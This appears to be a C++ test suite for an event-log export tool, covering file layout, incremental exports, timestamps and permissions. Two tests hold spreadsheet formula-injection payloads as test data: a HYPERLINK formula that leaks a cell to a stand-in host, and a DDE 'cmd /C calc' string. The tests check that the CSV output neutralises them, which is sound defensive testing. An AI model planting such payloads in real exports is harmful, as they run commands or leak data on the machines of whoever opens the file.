// Exports of a log in memory: what stands in the files, where they lie, and what an export does to
// the one before it.
#include "orglog/export/export.hpp"

#include <sys/stat.h>

#include <boost/json/parse.hpp>
#include <fstream>
#include <iterator>
#include <map>
#include <set>

#include "orglog/base/limits.hpp"
#include "support/append.hpp"
#include "support/history.hpp"

using namespace orglog;
using namespace orglog::testing;

namespace {

namespace fs = std::filesystem;
using exports::Format;

const Uuid store{derive_uuid(Uuid{}, 7, "store")};
const AccountId ada{derive_uuid(Uuid{}, 1, "ada")};
const AccountId joe{derive_uuid(Uuid{}, 2, "joe")};
const OrgId acme{derive_uuid(Uuid{}, 3, "acme")};
const AppId web{derive_uuid(Uuid{}, 4, "web")};

std::string text_of(const fs::path& file) {
  std::ifstream stream(file, std::ios::binary);
  return {std::istreambuf_iterator<char>(stream), {}};
}

// Path below the directory -> bytes.
std::map<std::string, std::string> files_of(const fs::path& directory) {
  std::map<std::string, std::string> files;
  for (const auto& entry : fs::recursive_directory_iterator(directory)) {
    if (!entry.is_regular_file()) continue;
    files[entry.path().lexically_relative(directory).string()] = text_of(entry.path());
  }
  return files;
}

struct World : History {
  World() {
    add(at("2026-01-01T10:00:00Z"),
        {AccountRegistered{ada, *Email::parse("ada@acme.com"), "Ada", AccountState::active}});
    add(at("2026-01-01T10:00:00Z"),
        {AccountRegistered{joe, *Email::parse("joe@acme.com"), "Joe \"J\", jr.", {}}});
    add(at("2026-01-01T11:00:00Z"),
        {OrgProvisioned{acme, *OrgName::parse("acme"), {}, {}, {}, ada}});
    add(at("2026-01-02T10:00:00Z"), {AppCreated{web, *AppName::parse("web"), owner(), false, {}}},
        ada);
    add(at("2026-01-02T10:00:00Z"), {MemberAdded{acme, joe, Role::member}}, ada);
    add(at("2026-01-03T10:00:00Z"), {CollaboratorAdded{web, owner(), joe, Permissions::work()}},
        ada);
  }
  static Owner owner() { return Owner::of(acme); }

  exports::Report run(const std::string& name, Format format, std::optional<Position> since = {},
                      std::optional<Position> end = {}) {
    const auto report = attempt(name, format, since, end);
    REQUIRE_MESSAGE(report.has_value(), report.error().sentence);
    return *report;
  }
  exports::Exported<exports::Report> attempt(const std::string& name, Format format,
                                             std::optional<Position> since = {},
                                             std::optional<Position> end = {}) {
    exports::Options options;
    options.to = to(name);
    options.format = format;
    options.since = since;
    options.end = end;
    return exports::export_log(log(), store, options);
  }
  fs::path to(const std::string& name) const { return directory.path() / name; }

  // All rows of a table, in the order of their files' names.
  std::vector<boost::json::object> rows(const std::string& name, const std::string& table) const {
    std::vector<boost::json::object> rows;
    for (const auto& [path, text] : files_of(to(name) / table)) {
      std::size_t begin = 0;
      for (std::size_t end = 0; (end = text.find('\n', begin)) != std::string::npos;
           begin = end + 1) {
        rows.push_back(boost::json::parse(text.substr(begin, end - begin)).as_object());
      }
    }
    return rows;
  }

  TempDir directory;
};

}  // namespace

TEST_CASE("an event is a row in the folder of its date, with names beside ids") {
  World world;
  world.run("out", Format::ndjson);
  CHECK(fs::exists(world.to("out") / "events/date=2026-01-01/part-000000000000.ndjson"));
  CHECK(fs::exists(world.to("out") / "events/date=2026-01-03/part-000000000005.ndjson"));
  const auto rows = world.rows("out", "events");
  REQUIRE(rows.size() == 6);
  const boost::json::object& granted = rows[5];
  CHECK(granted.at("position") == 5);
  CHECK(granted.at("type") == "CollaboratorAdded");
  CHECK(granted.at("occurred_at") == "2026-01-03T10:00:00Z");
  CHECK(granted.at("actor") == "ada@acme.com");
  CHECK(granted.at("actor_id").as_string() == to_string(ada));
  CHECK(granted.at("org") == "acme");
  CHECK(granted.at("app") == "web");
  CHECK(granted.at("subject") == "joe@acme.com");
  CHECK(granted.at("permissions") == "view,deploy,operate");
  CHECK(granted.at("role").is_null());
  CHECK(granted.at("payload").at("owner").at("name") == "acme");
  CHECK(rows[0].at("actor") == "operator");
  CHECK(rows[0].at("actor_id").is_null());
  CHECK(rows[1].at("payload").at("name") == "Joe \"J\", jr.");
}

TEST_CASE("an event shows the names of its time") {
  World world;
  world.add(at("2026-01-04T10:00:00Z"),
            {AppRenamed{web, World::owner(), *AppName::parse("shop"), *AppName::parse("web")}});
  world.run("out", Format::ndjson);
  const auto rows = world.rows("out", "events");
  CHECK(rows[5].at("app") == "web");
  CHECK(rows[6].at("app") == "shop");
  CHECK(world.rows("out", "apps")[0].at("app") == "shop");
}

TEST_CASE("members, apps and access say what is so at the position") {
  World world;
  world.run("out", Format::ndjson);
  const auto members = world.rows("out", "members");
  REQUIRE(members.size() == 2);
  CHECK(members[0].at("account") == "ada@acme.com");
  CHECK(members[0].at("role") == "admin");
  CHECK(members[1].at("state") == "invited");
  std::vector<std::string> ways;
  for (const auto& row : world.rows("out", "access")) {
    ways.push_back(std::string(row.at("account").as_string()) + " " +
                   std::string(row.at("how").as_string()) + " " +
                   std::string(row.at("permissions").as_string()));
  }
  CHECK(ways == std::vector<std::string>{"ada@acme.com admin view,deploy,operate,manage",
                                         "joe@acme.com member view",
                                         "joe@acme.com granted view,deploy,operate"});
  world.run("earlier", Format::ndjson, {}, 4);
  CHECK(world.rows("earlier", "members").size() == 1);
  CHECK(world.rows("earlier", "events").size() == 4);
}

TEST_CASE("audit has a row for everybody and everything an event is about") {
  World world;
  world.run("out", Format::ndjson);
  std::vector<std::string> about;
  for (const auto& row : world.rows("out", "audit")) {
    if (row.at("position") != 5) continue;
    about.push_back(std::string(row.at("entity_kind").as_string()) + " " +
                    std::string(row.at("entity").as_string()));
  }
  CHECK(about == std::vector<std::string>{"org acme", "app web", "account joe@acme.com",
                                          "actor ada@acme.com"});
}

TEST_CASE("daily usage is what the usage projection answers, to the unit") {
  World world;
  const auto scaled = [](std::uint32_t quantity) {
    return FormationChanged{
        web, World::owner(), {{*ProcessType::parse("web"), quantity, DynoSize::standard_2x}}};
  };
  world.add(at("2026-01-30T22:30:00Z"), {scaled(3)});
  world.add(at("2026-01-31T06:00:00Z"), {scaled(1)});
  world.add(at("2026-01-31T07:00:00Z"),
            {AddonCreated{web, World::owner(), AddonId{derive_uuid(Uuid{}, 9, "addon")}, "pg", "pg",
                          "small", 5'000}});
  world.add(at("2026-02-02T12:00:01Z"), {scaled(0)});
  world.run("out", Format::ndjson);
  const Projections projections(world.log());
  const auto expected =
      usage(*projections.store, World::owner(), UsagePeriod::day, *parse_date("2026-01-01"),
            *parse_date("2026-02-28"), at("2026-02-02T12:00:01Z"));
  REQUIRE(expected.has_value());
  const auto rows = world.rows("out", "usage_daily");
  REQUIRE(rows.size() == 4);
  REQUIRE(expected->size() == rows.size());
  for (std::size_t index = 0; index < rows.size(); ++index) {
    const PeriodUsage& day = (*expected)[index];
    CHECK(rows[index].at("day").as_string() == to_date(day.first));
    CHECK(rows[index].at("owner") == "acme");
    CHECK(rows[index].at("dyno_centi_unit_seconds") == day.dyno_centi_unit_seconds);
    CHECK(rows[index].at("addon_micro_cents") == day.addon_micro_cents);
  }
}

TEST_CASE("the same position makes the same bytes, in every format") {
  World world;
  for (const Format format : {Format::ndjson, Format::csv, Format::sqlite}) {
    const std::string name(exports::to_text(format));
    world.run(name + "-1", format);
    world.run(name + "-2", format);
    CHECK(files_of(world.to(name + "-1")) == files_of(world.to(name + "-2")));
  }
}

TEST_CASE("an export that adds, and the one before it, make the whole") {
  World world;
  world.run("whole", Format::ndjson);
  world.run("parts", Format::ndjson, {}, 3);
  CHECK(world.rows("parts", "events").size() == 3);
  world.run("parts", Format::ndjson, 3);
  CHECK(world.rows("parts", "events") == world.rows("whole", "events"));
  CHECK(world.rows("parts", "audit") == world.rows("whole", "audit"));
  CHECK(world.rows("parts", "access") == world.rows("whole", "access"));
  CHECK_FALSE(fs::exists(world.to("parts") / ".export"));
  const auto nothing_new = world.run("parts", Format::ndjson, 6);
  CHECK(nothing_new.from == 6);
  CHECK(world.rows("parts", "events").size() == 6);
}

TEST_CASE("an export that would leave a hole or tell something twice is refused") {
  World world;
  world.run("out", Format::ndjson, {}, 3);
  for (const Position since : {Position{2}, Position{4}}) {
    const auto refused = world.attempt("out", Format::ndjson, since);
    REQUIRE_FALSE(refused.has_value());
    CHECK(refused.error().sentence.find("--since 3") != std::string::npos);
  }
  CHECK_FALSE(world.attempt("out", Format::csv, 3).has_value());
  CHECK_FALSE(world.attempt("new", Format::csv, 7).has_value());
}

TEST_CASE("F-A6: nothing is added to an export whose columns had other types") {
  World world;
  world.run("out", Format::ndjson, {}, 3);
  const fs::path file = world.to("out") / "export.json";
  std::string text = text_of(file);
  const std::string version = R"("version":2,)";
  const std::size_t at = text.find(version);
  REQUIRE(at != std::string::npos);
  std::ofstream(file) << text.erase(at, version.size());  // as version 1 wrote it
  const auto refused = world.attempt("out", Format::ndjson, 3);
  REQUIRE(refused.has_error());
  CHECK(refused.error().code == "usage");
  CHECK(refused.error().sentence.find("export without --since") != std::string::npos);
  world.run("out", Format::ndjson, {}, 3);
  world.run("out", Format::ndjson, 3);
}

TEST_CASE("F-A6: every instant that is written as text says that it is UTC") {
  World world;
  world.run("out", Format::ndjson);
  for (const auto& [table, columns] :
       std::map<std::string, std::vector<std::string>>{{"events", {"occurred_at", "recorded_at"}},
                                                       {"audit", {"occurred_at"}},
                                                       {"members", {"since"}},
                                                       {"apps", {"created_at"}},
                                                       {"access", {"since"}}}) {
    for (const auto& row : world.rows("out", table)) {
      for (const std::string& column : columns)
        CHECK((row.at(column).is_null() || row.at(column).as_string().ends_with('Z')));
    }
  }
}

TEST_CASE("what no export left is not touched") {
  World world;
  fs::create_directories(world.to("mine") / "events");
  std::ofstream(world.to("mine") / "events/diary.txt") << "dear diary";
  const auto refused = world.attempt("mine", Format::ndjson);
  REQUIRE_FALSE(refused.has_value());
  CHECK(refused.error().code == "usage");
  CHECK(fs::exists(world.to("mine") / "events/diary.txt"));
}

TEST_CASE("CSV quotes as RFC 4180 says and tells empty from absent") {
  World world;
  world.run("out", Format::csv);
  const std::string text =
      text_of(world.to("out") / "events/date=2026-01-01/part-000000000000.csv");
  CHECK(text.starts_with("position,event_id,occurred_at"));
  CHECK(text.find("\"{\"\"user\"\":\"\"joe@acme.com\"\",\"\"name\"\":\"\"Joe "
                  "\\\"\"J\\\"\", jr.\"\",") != std::string::npos);
  CHECK(text.ends_with("}\"\r\n"));
}

TEST_CASE("F-B13: a CSV cell that a spreadsheet would run is only text") {
  World world;
  // Addresses are cells of their own; older releases took such ones.
  const AccountId odd{derive_uuid(Uuid{}, 9, "odd")};
  world.add(at("2026-01-05T10:00:00Z"),
            {AccountRegistered{odd, *Email::parse("=HYPERLINK(\"//x\"&B2)@acme.example"), "", {}}});
  world.add(at("2026-01-05T10:00:00Z"), {AppLocked{web, World::owner()}}, odd);
  world.run("out", Format::csv);
  std::size_t harmless = 0;
  for (const auto& [path, text] : files_of(world.to("out"))) {
    CAPTURE(path);
    for (const char* cell : {",=", ",\"=", "\n=", ",+", ",-", ",@", ",\"@", ",\"+"})
      CHECK(text.find(cell) == std::string::npos);
    if (text.find("\"'=HYPERLINK(\"\"//x\"\"&B2)@acme.example\"") != std::string::npos) ++harmless;
  }
  CHECK(harmless > 0);
  world.run("rows", Format::ndjson);
  CHECK(world.rows("rows", "events").at(7).at("actor") == "=HYPERLINK(\"//x\"&B2)@acme.example");
}

TEST_CASE("F-B13: nor does one run that semicolons, tabs, spaces or wide signs make of a client") {
  World world;
  const std::string name = "x;=cmd|' /C calc'!A0";
  const auto add = [&](const std::string& client) {
    const Event event = AccountRenamed{joe, *PersonName::parse(name), ""};
    NewRecord record;
    record.header.command = CommandId{random_uuid()};
    record.header.type = type_of(event);
    record.header.occurred_at = record.header.recorded_at = at("2026-01-06T10:00:00Z");
    record.header.tags = tags_of(event);
    record.client_name = client;
    encode_event(event, record.payload);
    REQUIRE(append_to(world.log(), {&record, 1}));
  };
  add("curl/8 (x;=1+1;@b)");
  add("  =1+1");
  add("\uFF1D1+1");
  add("a\t=1+1");
  add("curl/8 (+http://c.example; -d)");
  world.run("out", Format::csv);
  std::string all;
  for (const auto& [path, text] : files_of(world.to("out") / "events")) all += text;
  for (const char* cell : {";=", ";@", "\t=", ",\"  =", ",\uFF1D", ",\"\uFF1D"})
    CHECK_MESSAGE(all.find(cell) == std::string::npos, cell);
  for (const char* cell :
       {"\"curl/8 (x;'=1+1;'@b)\"", "\"'  =1+1\"", "\"'\uFF1D1+1\"", "\"a\t'=1+1\"",
        "\"curl/8 (+http://c.example; -d)\"", R"(""x;\u003dcmd|' /C calc'!A0"")"})
    CHECK_MESSAGE(all.find(cell) != std::string::npos, cell);
  world.run("rows", Format::ndjson);
  CHECK(world.rows("rows", "events").at(6).at("payload").at("name").as_string() == name);
  CHECK(world.rows("rows", "events").at(6).at("client") == "curl/8 (x;=1+1;@b)");
}

TEST_CASE("F-B13: an export is its owner's alone, whatever the mask of the process") {
  const mode_t former = ::umask(0);
  for (const Format format : {Format::ndjson, Format::csv, Format::sqlite}) {
    World world;
    world.run("out", format);
    CHECK(fs::status(world.to("out")).permissions() == fs::perms::owner_all);
    for (const auto& entry : fs::recursive_directory_iterator(world.to("out"))) {
      CAPTURE(entry.path().string());
      const auto expected = entry.is_directory() ? fs::perms(0700) : fs::perms(0600);
      CHECK(entry.status().permissions() == expected);
    }
  }
  CHECK(::umask(former) == 0);
}

TEST_CASE("dates that jump make bounded parts and lose nothing") {
  World world;
  constexpr std::size_t many = 30'000;
  for (std::size_t count = 0; count < many; ++count) {
    const auto day = at("2020-01-01T00:00:00Z") + std::chrono::hours(24 * (count * 7'919 % 400));
    world.add(day, {AppLocked{web, World::owner()}});
  }
  const auto report = world.run("out", Format::ndjson);
  std::uint64_t rows = 0;
  std::set<std::int64_t> positions;
  for (const auto& row : world.rows("out", "events")) {
    ++rows;
    positions.insert(row.at("position").as_int64());
  }
  CHECK(rows == many + 6);
  CHECK(positions.size() == many + 6);
  CHECK(report.tables[0].rows == many + 6);
  CHECK(report.tables[0].files >= 400);
}
